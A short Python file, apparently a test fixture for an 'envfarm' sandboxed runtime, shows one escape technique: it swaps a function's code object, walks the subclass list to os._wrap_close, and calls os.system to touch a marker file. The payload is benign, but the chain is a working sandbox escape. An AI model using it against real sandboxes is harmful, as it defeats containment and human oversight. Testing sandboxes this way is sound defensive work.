# ruff: noqa
"""Escape: func.__code__ replaced with another function's code."""

from envfarm.servers.runtime.database import Database


def _payload(marker):
    return [].__class__.__mro__[1].__subclasses__()


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    def harmless(marker):
        return None

    harmless.__code__ = _payload.__code__.replace(co_name="harmless")
    found = harmless(marker)
    wrap = next(c for c in found if c.__name__ == "_wrap_close")
    wrap.__init__.__globals__["system"](f"touch {marker}")
    return {"escaped": True}
